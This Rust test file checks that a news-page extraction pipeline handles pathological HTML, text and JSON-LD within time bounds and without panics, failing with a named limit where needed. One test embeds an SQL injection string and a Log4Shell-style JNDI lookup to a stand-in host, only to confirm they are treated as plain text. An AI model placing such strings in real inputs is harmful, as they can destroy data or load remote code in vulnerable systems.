//! Every page made to hurt (FAULTS rows 48–54), through extract, clean and annotate: an article or a bound by its name,
//! never a panic, and twice the page takes about twice the time.
//! Never the wall clock: what counts is the processor's time, and how it grows.

use crate::support::worked::worked;
use copydesk::model::{CanonicalUrl, FailureCode, Page, Record};
use copydesk::pipeline::{Options, Refiner};
use std::time::Duration;

const ARTICLE: &str = "<h1>Ferry sails again</h1><div><p>The ferry to the outer islands will sail twice a day from Monday, \
     the harbour office said on Friday.</p><p>Two new boats were bought for the line, and a third is to follow soon.</p>";

/// No page may take longer, whatever the machine: the promise of FAULTS.
const PROMISE: Duration = Duration::from_secs(10);

/// Below this a ratio of times says nothing.
const MEASURABLE: Duration = Duration::from_millis(150);

/// Linear work takes twice as long for twice the page; quadratic four times.
const RATIO: f64 = 3.2;

/// What a page of so many pieces becomes.
struct Case {
    name: &'static str,
    pieces: usize,
    make: fn(usize) -> String,
}

macro_rules! cases {
    ($($name:literal, $pieces:literal, $make:expr;)+) => { &[$(Case { name: $name, pieces: $pieces, make: $make }),+] };
}

/// So many pieces, each with its number.
fn numbered(count: usize, piece: fn(usize) -> String) -> String {
    (0..count).map(piece).collect()
}

fn json(script: &str) -> String {
    format!("<script type=application/ld+json>{script}</script>")
}

const NESTED: &[Case] = cases! {
    "div", 100_000, |n| "<div>".repeat(n);
    "ul", 100_000, |n| "<ul><li>".repeat(n);
    "b and i", 100_000, |n| "<b><i>".repeat(n);
    "svg", 100_000, |n| "<svg><g>".repeat(n);
    "table", 100_000, |n| "<table><tr><td>".repeat(n);
    "select", 100_000, |n| "<select><option>".repeat(n);
    "template", 100_000, |n| "<template>".repeat(n);
    "template with text", 100_000, |n| "<template><p>x</p>".repeat(n);
    "misplaced in table", 50_000, |n| "<table><b>x".repeat(n);
    "formatting reopened", 20_000, |n| "<p><b><i><u>x".repeat(n);
    "hidden", 100_000, |n| "<span hidden>x".repeat(n);
    "many blocks below many elements", 10_000, |n| "<div>".repeat(480) + &"<p>x".repeat(n);
    "many pictures below many elements", 10_000, |n| "<div>".repeat(480) + &"<img src=/a.jpg>".repeat(n);
    "many lines in one span", 10_000, |n| "<span>".repeat(480) + &"x<br>".repeat(n);
    "ruby", 50_000, |n| "<ruby>漢<rt>かん".repeat(n);
};

const WIDE: &[Case] = cases! {
    "unclosed p", 200_000, |n| "<p>x".repeat(n);
    "attributes", 1_000_000, |n| format!("<div{}>x", numbered(n, |k| format!(" a{k}=1")));
    "long attribute", 5_000_000, |n| format!("<div class='{}'>x", "a ".repeat(n / 2));
    "long style", 5_000_000, |n| format!("<div style='{}'>x", "a:b;".repeat(n / 4));
    "long line", 800_000, |n| "word ".repeat(n / 5);
    "long word", 800_000, |n| "w".repeat(n);
    "longer word", 5_000_000, |n| "w".repeat(n);
    "spaces", 5_000_000, |n| format!("<p>a{}b", " ".repeat(n));
    "ideographic spaces", 1_500_000, |n| format!("<p>a{}b", "\u{3000}".repeat(n));
    "entities", 1_000_000, |n| "&amp;".repeat(n);
    "comments", 600_000, |n| "x<!---->".repeat(n);
    "less-than signs", 500_000, |n| "<".repeat(n);
    "scripts", 100_000, |n| "<script></script>".repeat(n);
    "list items", 15_000, |n| "<li>An item of the list, it says.".repeat(n);
    "cells", 100_000, |n| format!("<table><tr>{}", "<td>a".repeat(n));
    "figures", 20_000, |n| "<figure><img src=/a.jpg><figcaption>A boat at sea</figcaption></figure>".repeat(n);
    "links", 60_000, |n| "<a href=/x>A link of words</a> ".repeat(n);
    "different lines", 6_000, |n| numbered(n, |k| format!("<p>The ferry number {k} sails again today, they say."));
};

const ODD: &[Case] = cases! {
    "combining marks", 600_000, |n| format!("<p>The a{} end.", "\u{301}".repeat(n));
    "combining marks of two classes", 300_000, |n| "e\u{301}\u{323}".repeat(n / 2);
    "open pinyin", 50_000, |n| "海(hǎi".repeat(n);
    "nested pinyin", 50_000, |n| format!("海{}{}", "(hǎi".repeat(n), ")".repeat(n));
    "pinyin", 50_000, |n| "海(hǎi)".repeat(n);
    "open parentheses", 600_000, |n| "(".repeat(n);
    "parentheses", 600_000, |n| format!("{}{}", "(".repeat(n / 2), ")".repeat(n / 2));
    "NUL and control characters", 800_000, |n| "\0\u{1}\u{7f}a".repeat(n / 4);
    "lone surrogates", 600_000, |n| "&#xD800;".repeat(n / 8);
    "datelines", 20_000, |n| "新华社海口7月7日电".repeat(n);
    "dates", 100_000, |n| format!("<p>9999-99-99 {}", "2025-01-02 ".repeat(n));
    "a long title", 200_000, |n| format!("<title>{}", "Ferry | ".repeat(n));
    "authors", 100_000, |n| format!("<meta name=author content='{0}'><p class=byline>By {0}</p>", "Ada ".repeat(n / 4));
};

const LINKED: &[Case] = cases! {
    "broken JSON-LD", 1_000_000, |n| json(&format!("{{\"@type\":\"NewsArticle\",\"headline\":{}", "\"a\",".repeat(n / 4)));
    "commas", 1_000_000, |n| json(&format!("[{}]", ",]".repeat(n / 2)));
    "deep lists", 400_000, |n| json(&format!("{}{}", "[".repeat(n / 2), "]".repeat(n / 2)));
    "deep objects", 200_000, |n| json(&format!("{}1{}", "{\"a\":".repeat(n), "}".repeat(n)));
    "many objects", 400_000, |n| json(&format!("[{}0]", "{},".repeat(n / 3)));
    "many scripts", 10_000, |n| json("{\"@type\":\"NewsArticle\",\"author\":{\"name\":\"A B\"}}").repeat(n);
    "references", 10_000, |n| json(&format!("[{}0]", r##"{"@type":"NewsArticle","author":{"@id":"#a"}},"##.repeat(n)));
};

fn refine(bomb: &str) -> (Result<Record, FailureCode>, Duration) {
    let url = CanonicalUrl::parse("https://news.lamp.example/a/ferry.html").unwrap();
    let html = format!("<!doctype html><body>{ARTICLE}{bomb}");
    let page = Page::from_text(url, html, "2026-01-02T03:04:05Z".parse().unwrap());
    let began = worked();
    let result = Refiner::new(&Options::default()).refine(&page).map_err(|failure| failure.code);
    (result, worked().saturating_sub(began))
}

fn check(cases: &[Case]) {
    for Case { name, pieces, make } in cases {
        let (_, half) = refine(&make(pieces / 2));
        let (result, whole) = refine(&make(*pieces));
        assert!(whole < PROMISE, "{name}: {whole:?}");
        match result {
            Ok(record) => {
                assert!(!record.body_text.contains('\0'), "{name}");
                assert!(!record.body_text.contains("\u{FFFD}\u{FFFD}"), "{name}");
            }
            Err(code) => {
                assert!(matches!(code, FailureCode::LimitExceeded | FailureCode::EmptyContent), "{name}: {code}");
            }
        }
        // One more try: another process may have had the machine.
        let ratio = |half: Duration, whole: Duration| whole.as_secs_f64() / half.as_secs_f64();
        if half > MEASURABLE && ratio(half, whole) > RATIO {
            let again = ratio(refine(&make(pieces / 2)).1, refine(&make(*pieces)).1);
            assert!(again <= RATIO, "{name}: {again:.1} times the time for twice the page");
        }
    }
}

#[test]
fn nested_pages_end_in_good_time() {
    check(NESTED);
}

#[test]
fn wide_pages_end_in_good_time() {
    check(WIDE);
}

#[test]
fn odd_text_ends_in_good_time() {
    check(ODD);
}

#[test]
fn hostile_linked_data_ends_in_good_time() {
    check(LINKED);
}

/// The article of a page that also holds this.
fn article(beside: &str) -> Record {
    refine(beside).0.unwrap()
}

#[test]
fn a_bound_is_met_by_name_where_an_article_is_out_of_reach() {
    let code = |bomb: &str| refine(bomb).0.unwrap_err();
    assert_eq!(code(&"<p>x".repeat(200_000)), FailureCode::LimitExceeded);
    assert_eq!(code(&"w".repeat(5_000_000)), FailureCode::LimitExceeded);
    assert_eq!(code(&("<div>".repeat(480) + &"x<br>".repeat(40_000))), FailureCode::LimitExceeded);
}

#[test]
fn impossible_values_leave_their_fields_empty() {
    let json = json(r#"{"@type":"NewsArticle","headline":"Ferry sails again","datePublished":"9999-99-99"}"#);
    let record = article(&json);
    assert_eq!((record.published_on, record.title.as_deref()), (None, Some("Ferry sails again")));
    let name = "Ada ".repeat(25_000);
    let record = article(&format!("<meta name=author content='{name}'>"));
    assert!(record.authors.iter().all(|author| author.len() < 1_000), "{:?}", record.authors.len());
}

#[test]
fn hostile_strings_are_text_like_any_other() {
    let line = "Robert'); DROP TABLE articles;-- ${jndi:ldap://x.example/a} \\u0000 %00 sailed the ferry, he said.";
    let record = article(&format!("<p>{line}</p>"));
    assert!(record.body_text.contains(line), "{}", record.body_text);
    let odd =
        article("<p>The fer\0ry &#0;&#xD800;&#xDFFF; sails\u{1}\u{7f} again, the office said on the same day.</p>");
    assert!(odd.body_text.contains("sails again, the office"), "{}", odd.body_text);
    assert!(!odd.body_text.chars().any(|c| c.is_control() && c != '\n'), "{:?}", odd.body_text);
}
